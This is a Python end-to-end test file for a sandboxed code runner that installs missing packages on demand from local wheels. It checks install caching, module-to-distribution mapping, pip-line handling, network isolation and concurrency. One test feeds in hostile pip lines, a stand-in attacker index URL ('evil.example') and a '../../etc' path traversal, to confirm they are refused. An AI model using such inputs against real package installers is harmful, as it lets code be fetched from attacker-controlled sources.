"""Point 10: missing imports installed on the fly, once per machine. A
dedicated instance (instance.py) installs from a directory of wheels this test
builds itself (wheels.py; no index, no network): a first run installs, a
second does not call pip, module names that differ from their distribution go
through the map, `!pip install` lines work, a failed install is reported and
the code still runs, the code has no network right after an install, and 8
concurrent runs install a package once."""
import json
import os
import threading
import time
import unittest

import client
import wheels
from instance import Instance
from support import E2E
from test_p9_ops import db_rows


def installs(inst, package):
    return db_rows(inst.db, "SELECT status, version, module, requirement, execution_id, log_tail"
                   " FROM package_installs WHERE package = ? ORDER BY id", package)


class P10Packages(E2E):
    inst = None

    @classmethod
    def setUpClass(cls):
        cls.inst = Instance(workers=8, pool=4)
        wh = cls.inst.tmp + "/wheels"
        wheels.build(wh, "ci-plain", "1.0", {"ci_plain.py": "X = 'plain'\n"})
        wheels.build(wh, "ci-fancy-dist", "1.2", {"ci_fancy_mod/__init__.py": "from ci_base import BASE\nVALUE = BASE + 1\n"},
                     requires=["ci-base"])
        wheels.build(wh, "ci-base", "2.0", {"ci_base.py": "BASE = 41\n"})
        wheels.build(wh, "ci-piponly", "3.0", {"ci_piponly_mod.py": "Y = 3\n"})
        wheels.build(wh, "ci-piponly", "2.0", {"ci_piponly_mod.py": "Y = 2\n"})
        wheels.build(wh, "ci-net", "1.0", {"ci_net.py": "N = 1\n"})
        wheels.build(wh, "ci-conc", "1.0", {"ci_conc.py": "C = 'conc'\n"})
        os.chmod(wh, 0o755)
        for f in os.listdir(wh):
            os.chmod(os.path.join(wh, f), 0o644)
        with open(cls.inst.tmp + "/map.json", "w") as f:
            json.dump({"ci_fancy_mod": "ci-fancy-dist"}, f)
        cls.inst.env["APP_PACKAGE_MAP"] = cls.inst.tmp + "/map.json"
        cls.inst.start()
        cls.ctx = cls.inst.current()
        cls.ctx.__enter__()

    @classmethod
    def tearDownClass(cls):
        cls.ctx.__exit__(None, None, None)
        ok, lines = cls.inst.stop()
        cls.inst.remove()
        if not ok:
            raise AssertionError("\n".join(lines))

    def test_first_run_installs_second_run_does_not_call_pip(self):
        t0 = time.monotonic()
        out = self.run_code("import ci_plain\nprint(ci_plain.X)\n")
        first = time.monotonic() - t0
        self.assertEqual(out["stdout"], "plain\n")
        self.assertEqual(out["stderr"], "")
        rows = installs(self.inst, "ci-plain")
        self.assertEqual([(r[0], r[1], r[2], r[3]) for r in rows], [("ok", "1.0", "ci_plain", "ci_plain")])
        t0 = time.monotonic()
        out = self.run_code("import ci_plain\nprint(ci_plain.X * 2)\n")
        second = time.monotonic() - t0
        self.assertEqual(out["stdout"], "plainplain\n")
        self.assertEqual(len(installs(self.inst, "ci-plain")), 1, "pip ran again for an installed package")
        print("\n    [p10] first run (install) %.0f ms, second run %.0f ms" % (first * 1000, second * 1000))

    def test_module_name_differs_from_distribution_found_through_the_map_with_dependency(self):
        out = self.run_code("from ci_fancy_mod import VALUE\nimport ci_base\nprint(VALUE, ci_base.BASE)\n")
        self.assertEqual(out["stdout"], "42 41\n")
        rows = installs(self.inst, "ci-fancy-dist")
        self.assertEqual([(r[0], r[1], r[2]) for r in rows], [("ok", "1.2", "ci_fancy_mod")])
        # the dependency came with it: no install of its own, no attempt for "ci_base"
        self.assertEqual(installs(self.inst, "ci-base"), [])

    def test_pip_lines_are_installed_and_removed_from_the_code(self):
        out = self.run_code("!pip install ci-piponly==2.0\nimport ci_piponly_mod\n"
                            "%pip install -q ci-piponly==2.0\nprint(ci_piponly_mod.Y)\n"
                            "import traceback\ntraceback.print_stack(limit=1)\n")
        self.assertEqual(out["stdout"], "2\n")
        self.assertIn('line 6', out["stderr"], "line numbers moved")
        rows = installs(self.inst, "ci-piponly")
        self.assertEqual([(r[0], r[1], r[2], r[3]) for r in rows], [("ok", "2.0", None, "ci-piponly==2.0")])

    def test_a_missing_package_is_reported_in_stderr_and_the_code_still_runs(self):
        out = self.run_code("try:\n    import ci_no_such_thing\nexcept ImportError as e:\n    print('fallback', e.name)\n"
                            "print('after')\n")
        self.assertEqual(out["stdout"], "fallback ci_no_such_thing\nafter\n")
        self.assertIn("Package install failed: ci_no_such_thing (needed by `import ci_no_such_thing`)", out["stderr"])
        self.assertIn("No matching distribution found for ci_no_such_thing", out["stderr"])
        rows = installs(self.inst, "ci-no-such-thing")
        self.assertEqual(len(rows), 1)
        self.assertEqual(rows[0][0], "failed")
        self.assertIn("No matching distribution", rows[0][5])

    def test_a_bad_pip_requirement_is_refused_not_handed_to_pip(self):
        out = self.run_code("!pip install --index-url=http://evil.example/ x\n!pip install ../../etc\nprint('ran')\n")
        self.assertEqual(out["stdout"], "ran\n")
        self.assertIn("Package install refused: ../../etc", out["stderr"])
        self.assertEqual(db_rows(self.inst.db, "SELECT count(*) FROM package_installs WHERE requirement LIKE '%etc%'"
                                 " OR requirement LIKE '%evil%'")[0][0], 0)

    def test_the_code_has_no_network_right_after_an_install(self):
        out = self.run_probe(
            "import ci_net, socket, json\n"
            "r = {'names': sorted(l.split(':')[0].strip() for l in open('/proc/net/dev').readlines()[2:])}\n"
            "s = socket.socket()\ns.settimeout(3)\n"
            "try:\n    s.connect(('1.1.1.1', 80))\n    r['connect'] = 'connected'\n"
            "except OSError as e:\n    r['connect'] = e.errno\n"
            "print(json.dumps(r))\n")
        self.assertEqual(installs(self.inst, "ci-net")[0][0], "ok")
        self.assertEqual(out["names"], ["lo"])
        self.assertNotEqual(out["connect"], "connected")

    def test_the_cache_is_read_only_for_the_code(self):
        self.run_code("import ci_plain\n")
        out = self.run_probe(
            "import ci_plain, json\n"
            "try:\n    open(ci_plain.__file__, 'a').write('x')\n    r = 'written'\n"
            "except OSError as e:\n    r = e.errno\n"
            "print(json.dumps(r))\n")
        self.assertEqual(out, 30)  # EROFS

    def test_eight_concurrent_runs_install_the_same_package_once(self):
        results = [None] * 8

        def one(i):
            results[i] = client.execute("import ci_conc\nprint(ci_conc.C, %d)\n" % i, timeout=60)

        threads = [threading.Thread(target=one, args=(i,)) for i in range(8)]
        for t in threads:
            t.start()
        for t in threads:
            t.join(180)
        for i, r in enumerate(results):
            self.assertIsNotNone(r, "run %d did not finish" % i)
            self.assertEqual(r.status, 200, r.body[:500])
            self.assertEqual(r.json["stdout"], "conc %d\n" % i, r.json["stderr"][-2000:])
        rows = installs(self.inst, "ci-conc")
        self.assertEqual([r[0] for r in rows], ["ok"], "installed %d times" % len(rows))


class P10Off(E2E):
    def test_package_install_off_leaves_imports_and_pip_lines_alone(self):
        inst = Instance({"APP_PACKAGE_INSTALL": "0"}, workers=1, pool=1)
        wheels.build(inst.tmp + "/wheels", "ci-plain", "1.0", {"ci_plain.py": "X = 'plain'\n"})
        try:
            inst.start()
            with inst.current():
                out = self.run_code("import ci_plain\n", expect_exit=1)
                self.assertIn("ModuleNotFoundError: No module named 'ci_plain'", out["stderr"])
                self.assertNotIn("Package install", out["stderr"])
                out = self.run_code("!pip install ci-plain\n", expect_exit=1)
                self.assertIn("SyntaxError", out["stderr"])
            self.assertEqual(db_rows(inst.db, "SELECT count(*) FROM package_installs")[0][0], 0)
            self.assertFalse(os.path.exists(inst.tmp + "/packages/site-packages"))
        finally:
            ok, lines = inst.stop()
            inst.remove()
        self.assertTrue(ok, "\n".join(lines))


if __name__ == "__main__":
    unittest.main()
